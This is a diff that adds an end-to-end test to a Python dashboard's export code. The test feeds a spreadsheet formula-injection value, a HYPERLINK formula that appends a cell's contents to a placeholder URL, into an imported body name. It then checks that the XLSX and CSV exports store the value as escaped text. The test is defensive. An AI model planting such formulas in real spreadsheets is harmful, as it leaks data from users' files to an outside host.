@@ -314,3 +314,34 @@ def test_control_characters_are_found_per_column():
     raw = pd.DataFrame({"a": ["ok", "bad\x07", None], "b": ["x", "y", "z\tq"]})
     found = limits.control_violations(raw)
     assert [(v.column, v.rows) for v in found] == [("a", [1])]  # a tab is allowed
+
+
+def test_a_formula_in_an_imported_body_name_leaves_the_export_as_text(tmp_path, store_dir):
+    """End to end: import (new_codes: add) -> store -> the overdue list's XLSX and CSV."""
+    import io
+
+    import openpyxl
+
+    from dashboard.analysis import deadlines
+    from dashboard.data import codes
+    from dashboard.data.filters import Filters
+    from dashboard.ui import export
+
+    hostile = '=HYPERLINK("http://example.invalid/?leak="&B2,"Открыть")'
+    df = other_export()
+    df["Орган"] = hostile
+    db = store_dir / "appeals.duckdb"
+    path = add_mapping(tmp_path, "new_body_level: central\n")
+    assert pipeline.ingest(write_csv(df, tmp_path / "f.csv"), path, LATER, db).status == "imported"
+    f = Filters(date(2013, 1, 1), LATER, appeal_types=())
+    params = {**f.to_sql_params(), "as_of": LATER, "limit": 1000, "offset": 0}
+    rows = queries.execute("deadlines_overdue_by_appeal", params, db)
+    names = codes.labels("body", "ru", db)
+    table = deadlines.overdue_table(rows, "ru", lambda kind, code: names.get(code, code))
+    assert (table == hostile).any().any(), "the hostile name reaches the export table"
+    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx_bytes(table, "list")))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
+    assert not any(c.data_type == "f" for c in cells)
+    assert any(c.value == "'" + hostile for c in cells)
+    csv_text = export.to_csv_bytes(table).decode("utf-8-sig")
+    assert "'" + hostile.replace('"', '""') in csv_text
